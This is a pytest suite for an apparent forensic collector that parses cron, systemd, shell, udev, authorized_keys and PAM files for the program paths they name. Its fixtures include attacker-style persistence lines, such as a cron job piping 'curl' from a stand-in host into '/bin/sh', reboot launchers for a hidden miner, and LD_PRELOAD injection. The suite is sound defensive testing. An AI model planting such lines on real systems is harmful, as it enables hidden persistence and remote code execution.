import os
import shlex

import hosts
import pytest

from collectors.artifact import Artifact, Gap, Reason
from collectors.files.source import Source
from collectors.homes import NOBODY, Owner
from collectors.named import pointers
from collectors.named.commandline import CommandLine, Executed, ReadByShell
from collectors.named.leads import Leads
from collectors.named.pointers import MOST
from collectors.named.referenced import Referenced

READERS = (
    pointers.anacron, pointers.authorized_keys, pointers.binfmt, pointers.cron,
    pointers.desktop, pointers.git, pointers.inittab, pointers.lines,
    pointers.preload, pointers.quoted, pointers.rsyslog, pointers.shell,
    pointers.sshd, pointers.system_cron, pointers.systemd, pointers.udev,
)  # fmt: skip

CASES = (
    # reader, content, paths
    ("cron", b"*/5 * * * * root /usr/bin/python3 /opt/x.py", ["/usr/bin/python3", "/opt/x.py"]),
    ("cron", b"*/5 * * * * /opt/user.sh >> /var/log/x.log 2>&1", ["/opt/user.sh"]),
    ("cron", b"@reboot /tmp/.x/miner -c /tmp/.x/c.json", ["/tmp/.x/miner", "/tmp/.x/c.json"]),
    ("cron", b"# * * * * * /opt/old.sh\n\n", []),
    ("cron", b"PATH=/bin:/opt/bin\nSHELL=/tmp/sh\nMAILTO=root\nX = /opt/y", ["/tmp/sh"]),
    ("cron", b"0 1 * * * root cd / && run-parts --report /etc/cron.daily", ["/etc/cron.daily/"]),
    ("cron", b"0 1 * * * sh -c '/opt/a; /opt/b'", ["/opt/a", "/opt/b"]),
    ("cron", b"0 1 * * * /opt/say%/opt/this is input", ["/opt/say"]),
    ("cron", b'0 1 * * * "/opt/my app/run"', ["/opt/my app/run"]),
    ("cron", b"0 1 * * * /opt/my\\ app/run", ["/opt/my app/run"]),
    ("cron", b"0 1 * * * curl http://x.test/a|/bin/sh", ["/bin/sh"]),
    ("cron", b"0 1 * * * x --config=/etc/y $HOME/z /opt/*/w", ["/etc/y"]),
    ("cron", "0 1 * * * /opt/雪/\udcff".encode("utf-8", "surrogateescape"), ["/opt/雪/\udcff"]),
    (
        "systemd",
        b"[Service]\nExecStart=/usr/sbin/x -D\nExecStop=-/bin/kill",
        ["/usr/sbin/x", "/bin/kill"],
    ),
    (
        "systemd",
        b"ExecStartPre=!!/opt/a\nExecStartPost=+/opt/b\nExecReload=@/opt/c d",
        ["/opt/a", "/opt/b", "/opt/c"],
    ),
    ("cron", b"@reboot cd /tmp/.x; ./miner", ["/tmp/.x", "/tmp/.x/miner"]),
    ("cron", b"0 1 * * * cd /opt && python3 run.py -x y.py", ["/opt", "/opt/run.py"]),
    ("cron", b"0 1 * * * cd /opt; python3 -m http.server", ["/opt"]),
    ("cron", b"LD_PRELOAD=/a.so:/b.so", ["/a.so", "/b.so"]),
    ("systemd", b"EnvironmentFile=-/etc/default/x\nEnvironment=A=/opt/no", ["/etc/default/x"]),
    ("systemd", b"ExecStart=/bin/sh -c \\\n  '/opt/a && /opt/b'", ["/bin/sh", "/opt/a", "/opt/b"]),
    ("systemd", b"ExecStart=/usr/bin/x %i /run/%n\nDescription=/opt/no", ["/usr/bin/x"]),
    ("systemd", b"ExecStart = /usr/bin/spaced", ["/usr/bin/spaced"]),
    ("systemd", b'Environment=A=/no "LD_PRELOAD=/tmp/e.so /b.so"', ["/tmp/e.so", "/b.so"]),
    (
        "systemd",
        rb"ExecStart=/opt/my\x20app/run \xe9\x9b\xaa /opt/\xe9\x9b\xaa /a\x0ab",
        ["/opt/my app/run", "/opt/雪"],
    ),
    ("systemd", rb"ExecStart=/opt/a\\x20b", ["/opt/a\\x20b"]),
    (
        "systemd",
        b"ExecStart=/usr/bin/node server.js --port x.y\nWorkingDirectory=-/opt/a",
        ["/usr/bin/node", "/opt/a/server.js"],
    ),
    (
        "preload",
        b"/lib/evil.so /tmp/b.so:/tmp/c.so\n/d.so",
        ["/lib/evil.so", "/tmp/b.so", "/tmp/c.so", "/d.so"],
    ),
    (
        "shell",
        b"source /etc/x\n. /etc/y\n/opt/run --now /etc/arg",
        ["/etc/x", "/etc/y", "/opt/run"],
    ),
    ("shell", b"[ -f /etc/no ] && /opt/yes; echo /etc/no", ["/opt/yes"]),
    (
        "shell",
        b"DAEMON=/usr/sbin/d\nPATH=/opt/bin\nexport LD_PRELOAD=/tmp/p.so",
        ["/usr/sbin/d", "/tmp/p.so"],
    ),
    ("shell", b"nohup /tmp/a & exec /tmp/b\nexec -a x /tmp/c", ["/tmp/a", "/tmp/b", "/tmp/c"]),
    ("shell", b"python3 -u /opt/x.py /etc/arg", ["/opt/x.py"]),
    ("shell", b"if [ 1 ]; then /opt/a; else /opt/b; fi", ["/opt/a", "/opt/b"]),
    ("shell", b"ls bin/x ./y ../z", []),
    ("shell", b'su - www -c "/tmp/m -x"', ["/tmp/m"]),
    ("shell", b'bash -c "/tmp/a -x"', ["/tmp/a"]),
    ("shell", b"sh -c '/tmp/a; /tmp/b'", ["/tmp/a", "/tmp/b"]),
    ("shell", b'nohup sh -c "/tmp/a >/dev/null" &', ["/tmp/a"]),
    ("shell", b'eval "/tmp/a -b"', ["/tmp/a"]),
    ("shell", b'eval "/tmp/a b/c"', ["/tmp/a"]),
    ("shell", b"bash -lc \"sh -c '/tmp/a; /tmp/b'\"", ["/tmp/a", "/tmp/b"]),
    ("shell", b'export PROMPT_COMMAND="/tmp/x; history -a"', ["/tmp/x"]),
    ("shell", b"alias ls='/tmp/x -l'\nX=\"$(/opt/y -z)\"", ["/tmp/x", "/opt/y"]),
    ("shell", b'export LD_PRELOAD="/a.so /b.so"\nexport A=1', ["/a.so", "/b.so"]),
    ("shell", b"export LD_PRELOAD=/a.so:/b.so", ["/a.so", "/b.so"]),
    ("shell", b'OPTIONS="-c /etc/no"\necho "a; /opt/no"', []),
    ("shell", b'. "/opt/my app/x.sh"\n/opt/b\\ c', ["/opt/my app/x.sh", "/opt/b c"]),
    ("shell", b"trap '/tmp/x' EXIT\njava -jar /opt/x.jar", ["/tmp/x", "/opt/x.jar"]),
    ("shell", b'trap "/tmp/x y" EXIT', ["/tmp/x"]),
    ("shell", b'${DIR}/no\n"$DIR"/no', []),
    ("shell", b"cd /tmp/.x\n./miner -c ./c.json &\nnohup ./b", ["/tmp/.x/miner", "/tmp/.x/b"]),
    ("shell", b'cd "$DIR"; ./no; cd /opt/$X && ./no', []),
    (
        "inittab",
        b"1:2345:respawn:/sbin/getty 38400 tty1\nx:3:once:+/opt/x\nbroken",
        ["/sbin/getty", "/opt/x"],
    ),
    (
        "authorized_keys",
        b'command="/opt/a \\"b\\"",no-pty ssh-rsa AAAA/no/path== x\nssh-rsa AAAA',
        ["/opt/a"],
    ),
    ("authorized_keys", b'environment="LD_PRELOAD=/tmp/x.so" ssh-rsa AAAA', ["/tmp/x.so"]),
    (
        "udev",
        b'ACTION=="add", RUN+="/tmp/x %k", PROGRAM=="/bin/y", ENV{A}="/no"',
        ["/tmp/x", "/bin/y"],
    ),
    ("udev", b'RUN{program}+="/opt/z", IMPORT{program}="/opt/w"', ["/opt/z", "/opt/w"]),
    ("desktop", b"[Desktop Entry]\nExec=/opt/app %U\nTryExec=/opt/app\nIcon=/opt/no", ["/opt/app"]),
    (
        "lines",
        b"auth optional pam_exec.so /tmp/x.sh\ninstall usb /bin/sh -c /opt/y",
        ["/tmp/x.sh", "/bin/sh", "/opt/y"],
    ),
    (
        "sshd",
        b"ForceCommand /opt/a\nHostKey /etc/ssh/no\nSubsystem sftp /usr/lib/s",
        ["/opt/a", "/usr/lib/s"],
    ),
)


@pytest.mark.parametrize(("reader", "content", "paths"), CASES)
def test_finds_the_paths_that_are_named(reader, content, paths):
    assert getattr(pointers, reader)(content) == paths


WWW = Owner("/var/www", {"root": "/root", "db": "/srv/my db", "www": "/var/www"})

OF_WWW = (
    ("shell", b'. "$HOME/.cache/x.sh"\n. "$HOME"/y', ["/var/www/.cache/x.sh", "/var/www/y"]),
    ("shell", b"source ~/.cache/x.sh; ${HOME}/.z", ["/var/www/.cache/x.sh", "/var/www/.z"]),
    ("shell", b"nohup sh -c '~/m -x'; ~db/m; ~who/no", ["/var/www/m", "/srv/my db/m"]),
    ("shell", b"export LD_PRELOAD=$HOME/a.so:~/b.so", ["/var/www/a.so", "/var/www/b.so"]),
    ("shell", b"$HOMES/no a~/no", []),
    ("cron", b"* * * * * ~/.x/m", ["/var/www/.x/m"]),
    ("cron", b"@daily $HOME/.x/m -c ~/c", ["/var/www/.x/m", "/var/www/c"]),
    ("cron", b"@reboot ./m && python3 n.py", ["/var/www/m", "/var/www/n.py"]),
    ("system_cron", b"1-5 0,1 * jan mon root ~/m\n@daily db ./n", ["/root/m", "/srv/my db/n"]),
    ("system_cron", b"* * * * * who ~/no ./no\n@daily\n@daily db", []),
    ("systemd", b"ExecStart=%h/.local/x %%h/no", ["/var/www/.local/x"]),
    ("systemd", b"WorkingDirectory=~\nExecStart=/bin/sh run.sh", ["/bin/sh", "/var/www/run.sh"]),
    ("authorized_keys", b'command="~/m" ssh-rsa AAAA', ["/var/www/m"]),
)


@pytest.mark.parametrize(("reader", "content", "paths"), OF_WWW)
def test_knows_the_home_of_whose_file_it_is(reader, content, paths):
    assert getattr(pointers, reader)(content, WWW) == paths


@pytest.mark.parametrize("reader", READERS)
@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"\0" * 10_000,
        bytes(range(256)) * 400,
        b'"' * 200_000,
        b"'\\" * 100_000,
        b'"\\' * 100_000,
        b"RUN" * 50_000,
        b"ExecStart=" + b"/a " * 100_000,
        b'command="' * 20_000,
        b"run-parts " * 20_000,
        b"\\\n" * 100_000,
        b"x=" * 100_000,
        b"${" * 500_000,
        b"sh -c \"'" * 100_000,
        b"eval 'a b" * 100_000,
        b"$HOME/" * 100_000,
        b"1 " * 500_000,
    ],
)
def test_hostile_content_is_no_trouble(reader, content):
    found = reader(content)

    assert len(found) <= MOST
    assert all(path.startswith("/") and "\0" not in path for path in found)


def test_a_file_names_a_thousand_paths_at_most():
    content = b"\n".join(b"* * * * * /opt/%d" % number for number in range(5000)).replace(b"%", b"")

    found = pointers.cron(content)

    assert len(found) == MOST
    assert found.beyond == "it names more than 1000"


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"\n" * (1 << 17) + b"* * * * * /tmp/evil", "only its first 100000 lines were looked at"),
        (b"* * * * * " + b" " * (1 << 17) + b"/tmp/evil",
         "of its lines only the first 65536 bytes were looked at"),
        (b"* * * * * /opt/backup\n" * 1001, ""),
    ],
)  # fmt: skip
def test_where_a_name_could_hide_from_us_is_told(content, said):
    assert pointers.cron(content).beyond == said
    assert pointers.quoted(content).beyond == ""


@pytest.mark.parametrize(
    ("reader", "before"),
    [(pointers.cron, "* * * * * "), (pointers.shell, ""), (pointers.lines, "tanaka ALL=")],
)
def test_command_lines_deeper_in_each_other_than_is_looked_are_told(reader, before):
    commands = ["/opt/evil -x"]
    for _ in range(9):
        commands.append(f"sh -c {shlex.quote(commands[-1])}")

    *_, last, beyond = (reader(f"{before}{command}\n".encode()) for command in commands)

    assert ("/opt/evil" in last, last.beyond) == (True, "")
    assert "/opt/evil" not in beyond
    assert beyond.beyond == "its command lines within each other were looked at 8 deep"


def test_each_path_comes_once_in_its_order():
    assert pointers.preload(b"/b\n/a\n/b") == ["/b", "/a"]


# The collector.


@pytest.fixture
def host(tmp_path):
    return hosts.linux(tmp_path)


def collect(host, found, source=None):
    return list(Referenced(Leads(found.items())).collect(source or host.source()))


def test_takes_what_is_named_and_says_by_whom(host):
    host.with_file("/opt/x.py", "evil").with_file("/bin/sh", "shell")

    found = collect(host, {"/opt/x.py": 7, "/bin/sh": 9})

    assert [(one.origin, one.led_by) for one in found] == [("/opt/x.py", 7), ("/bin/sh", 9)]
    assert hosts.read(found[0]).data == b"evil"


def test_what_is_named_and_gone_is_a_gap(host):
    (gap,) = collect(host, {"/tmp/.x/miner": 3})

    assert (gap.reason, gap.led_by) == (Reason.ABSENT, 3)
    assert gap.detail == "named by item 3, not there"


def test_a_link_is_taken_with_its_target(host):
    host.with_file("/usr/bin/real", "r").with_link("/usr/bin/name", "real").with_link(
        "/bin", "usr/bin"
    )

    found = collect(host, {"/bin/name": 5})

    assert {one.origin: hosts.read(one).data for one in found} == {
        "/usr/bin/name": b"real", "/usr/bin/real": b"r",
    }  # fmt: skip
    assert {one.led_by for one in found} == {5}


def test_a_folder_whose_programs_are_run_gives_its_programs(host):
    host.with_file("/etc/cron.daily/a").with_file("/etc/cron.daily/b").with_folder(
        "/etc/cron.daily/c"
    )

    found = collect(host, {"/etc/cron.daily/": 4})

    assert [one.origin for one in found] == ["/etc/cron.daily/a", "/etc/cron.daily/b"]


def test_a_link_that_leads_nowhere_keeps_nothing_else_of_its_folder_from_us(host):
    host.with_link("/etc/cron.daily/a", "/gone").with_file("/etc/cron.daily/b", "job")

    found = collect(host, {"/etc/cron.daily/": 4})

    assert [(one.origin, isinstance(one, Gap)) for one in found] == [
        ("/etc/cron.daily/a", False), ("/etc/cron.daily/a", True), ("/etc/cron.daily/b", False),
    ]  # fmt: skip


def test_a_store_of_files_that_is_named_is_a_gap_and_not_taken(host):
    for number in range(201):
        host.with_file(f"/var/cache/apt/archives/{number}.deb", "package")

    (gap,) = collect(host, {"/var/cache/apt/archives/": 4})

    assert (gap.origin, gap.reason, gap.led_by) == ("/var/cache/apt/archives/", Reason.SKIPPED, 4)
    assert gap.detail == "named by item 4: a folder of 201 files, over the limit"


def test_of_a_folder_of_large_files_as_much_is_taken_as_fits(host):
    for name in ("a", "b"):
        os.truncate(host.with_file(f"/srv/jobs/{name}").path(f"/srv/jobs/{name}"), 20 << 20)
    host.with_file("/srv/jobs/c", "small")

    found = collect(host, {"/srv/jobs/": 4})

    assert [(one.origin, isinstance(one, Gap)) for one in found] == [
        ("/srv/jobs/a", False), ("/srv/jobs/b", True), ("/srv/jobs/c", False),
    ]  # fmt: skip


def test_folders_and_pipes_are_passed_over_unopened(host):
    host.with_folder("/opt").with_fifo("/run/pipe")

    assert collect(host, {"/opt": 1, "/run/pipe": 2}) == []


def test_what_was_taken_before_is_not_taken_again(host):
    source = host.with_file("/opt/x").source()
    source.once("/opt/x")

    assert collect(host, {"/opt/x": 1}, source) == []


def test_a_named_private_key_stays_where_it_is(host):
    host.with_file("/root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc")

    (gap,) = collect(host, {"/root/.ssh/id_rsa": 1})

    assert (gap.reason, gap.led_by) == (Reason.SKIPPED, 1)
    assert "private key" in gap.detail


@pytest.mark.parametrize("order", [["/opt/d/", "/opt/d/x"], ["/opt/d/x", "/opt/d/"]])
def test_a_file_that_is_named_is_taken_whatever_named_its_folder_before(host, order):
    for name in "abx":
        host.with_file(f"/opt/d/{name}")
        os.truncate(host.path(f"/opt/d/{name}"), 20 << 20)

    found = collect(host, dict.fromkeys(order, 5))

    assert [(one.origin, isinstance(one, Gap)) for one in found] == [
        ("/opt/d/x", False), ("/opt/d/a", False), ("/opt/d/b", True),
    ]  # fmt: skip


def test_what_was_too_large_here_may_still_be_taken_by_others(host):
    source = host.with_file("/opt/large").source()
    os.truncate(host.path("/opt/large"), Referenced.largest + 1)

    (gap,) = collect(host, {"/opt/large": 1}, source)

    assert (gap.origin, gap.reason) == ("/opt/large", Reason.SKIPPED)
    assert source.once("/opt/large")


@pytest.mark.parametrize(
    "order", [["/opt/d/large", "/opt/d/"], ["/opt/one", "/opt/two"]], ids=["folder", "links"]
)
def test_what_is_too_large_is_told_once_however_often_it_is_named(host, order):
    host.with_file("/opt/d/large").with_link("/opt/one", "d/large").with_link("/opt/two", "d/large")
    os.truncate(host.path("/opt/d/large"), Referenced.largest + 1)

    found = [one.origin for one in collect(host, dict.fromkeys(order, 5)) if isinstance(one, Gap)]

    assert found == ["/opt/d/large"]


def test_of_what_is_over_the_limit_not_even_the_head_is_read(host, monkeypatch):
    source = host.with_file("/opt/x", "x").source()
    monkeypatch.setattr(Referenced, "most_bytes", 0)
    monkeypatch.setattr(source, "snapshot", lambda *_, **__: pytest.fail("it was read"))

    (gap,) = collect(host, {"/opt/x": 1}, source)

    assert (gap.origin, gap.reason) == ("/opt/x", Reason.SKIPPED)


@pytest.mark.parametrize(
    ("place", "named"), [("/home/u/.x/run", ["/home/u/.y"]), ("/tmp/.x/run", [])]
)
def test_a_script_in_a_home_names_what_is_in_that_home(host, place, named):
    host.with_file(place, "#!/bin/sh\n~/.y\n")

    (script,) = collect(host, {place: 1})

    assert script.references(hosts.read(script).data) == named


def test_a_large_program_is_a_gap(host):
    host.with_file("/opt/large").with_file("/opt/small")
    os.truncate(host.path("/opt/large"), Referenced.largest + 1)

    large, small = collect(host, {"/opt/large": 1, "/opt/small": 2})

    assert (large.reason, large.led_by) == (Reason.SKIPPED, 1)
    assert isinstance(small, Artifact)


def test_links_of_a_copy_stay_inside_it(host):
    host.with_link("/opt/x", "/../../../../etc/hostname")

    found = collect(host, {"/opt/x": 1})

    assert [type(one).__name__ for one in found] == ["Artifact", "Gap"]
    assert found[1].reason is Reason.ABSENT


def test_never_reads_a_view_of_the_kernel_that_an_item_names():
    source = Source("/", live=True)
    named = {"/proc/kmsg": 1, "/proc/version": 2, "/bin/sh": 3}

    taken = [thing.origin for thing in Referenced(Leads(named.items())).collect(source)]

    source.guard.close()
    assert not [origin for origin in taken if origin.startswith("/proc")]
    assert taken


def test_a_crontab_line_without_a_command_costs_no_other_line():
    data = b"0 1 * * * root /opt/x/evil\n* * * * * %\n@reboot %x\n0 2 * * * root /opt/y/more\n"

    assert pointers.system_cron(data) == ["/opt/x/evil", "/opt/y/more"]


@pytest.mark.parametrize(
    "command",
    [
        "sudo -u postgres psql -f /data/x", "sudo psql /data/x", "nice -n 10 load /data/x",
        "env -u A load -f /data/x", "python3 - /data/x", "python3 -- /data/x", "bash -s /data/x",
        "bash -c load /data/x", "bash -c 'load -a' /data/x", "perl -w -n -e print -- /data/x",
        "perl -ne print /data/x", "start-stop-daemon -S -p /data/x", "ruby --data /data/x",
        "java -jar a.jar -in /data/x", "java -in /data/x", "python3 load.py /data/x",
        "python3 -W /data/x", "sudo -C /data/x", "bash a=b /data/x", "bash sudo /data/x",
        "F=(/data/x /data/y)", "{ load; } < /data/x", "< /data/x load", "X='/data/x -v'",
        "echo '/data/x -v'", "bash load.sh -c '/data/x -v'", "timeout 5 load /data/x",
    ],
)  # fmt: skip
def test_what_may_be_an_argument_is_not_surely_executed(command):
    found = list(CommandLine(NOBODY).named(command))

    assert "/data/x" in found
    assert not [path for path in found if isinstance(path, Executed)]


@pytest.mark.parametrize(
    "command",
    [
        "sudo -u root bash -x /opt/x -v /data/y", "bash /opt/x", "/bin/sh -x /opt/x",
        "python3 -u /opt/x", ". /opt/x", "bash -c 'sh /opt/x -v'", "su - post -c 'sh /opt/x -v'",
        "eval 'sh /opt/x -v'", "load && sh /opt/x", "sh -c 'sh -c \"sh /opt/x -v\"'",
        "nohup sh /opt/x", "trap 'sh /opt/x -v' EXIT", "perl -w /opt/x", "A=b sh /opt/x",
        "if ! sh /opt/x", "nice -n 19 ionice -c 3 sh /opt/x", "timeout 5m sh /opt/x",
    ],
)  # fmt: skip
def test_what_stands_directly_behind_an_interpreter_is_executed(command):
    found = CommandLine(NOBODY).named(command)

    executed = [str(path) for path in found if isinstance(path, Executed)]
    assert executed == ["/opt/x"]


@pytest.mark.parametrize(
    ("command", "by_shell"),
    [
        (". /opt/x", True), ("source /opt/x -v", True), ("bash -x /opt/x", True),
        ("sudo sh /opt/x", True), ("python3 /opt/x", False), ("perl /opt/x", False),
        ("/opt/x", False), ("cat /opt/x", False),
    ],
)  # fmt: skip
def test_what_a_shell_reads_is_told_from_what_others_do(command, by_shell):
    (path,) = (each for each in CommandLine(NOBODY).named(command) if each == "/opt/x")

    assert isinstance(path, ReadByShell) is by_shell


@pytest.mark.parametrize(
    ("command", "content", "named"),
    [
        (". /opt/env", "/opt/miner &\n", ["/opt/miner"]),
        ("source /opt/env", "export X=1\n. /opt/more\n", ["/opt/more"]),
        ("sh /opt/env", "/opt/miner &\n", ["/opt/miner"]),
        ("sh /opt/env", "#!/bin/sh\n/opt/miner\n", ["/opt/miner"]),
        ("/opt/env", "/opt/miner &\n", []),
        ("python3 /opt/env", "run('/opt/miner')\n", []),
        ("sh /opt/env", "#!/usr/bin/python3\n/opt/miner\n", []),
        ("sh /opt/env", "\x7fELF\0\0\n/opt/miner\n", []),
    ],
)
def test_what_a_shell_reads_in_names_more_whatever_its_first_line(host, command, content, named):
    """A profile's piece has no `#!`: nobody starts it by itself."""
    host.with_file("/opt/env", content)
    named_by_profile = Leads((path, 3) for path in pointers.shell(command.encode()))

    found = {one.origin: one for one in Referenced(named_by_profile).collect(host.source())}

    assert list(found["/opt/env"].references(content.encode())) == named


@pytest.mark.parametrize(
    "script",
    ["cat <<END\n/data/x\nEND\n", "FILES=(\n/data/x\n)\n", "case $1 in\n/data/x)\nesac\n"],
)
def test_a_path_alone_on_a_line_is_no_script_yet(script):
    """It may be people's own, named in a list: what is started says so by its first bytes."""
    commands = CommandLine(NOBODY)
    found = [path for line in script.splitlines() for path in commands.named(line)]

    assert "/data/x" in found
    assert not [path for path in found if isinstance(path, Executed)]
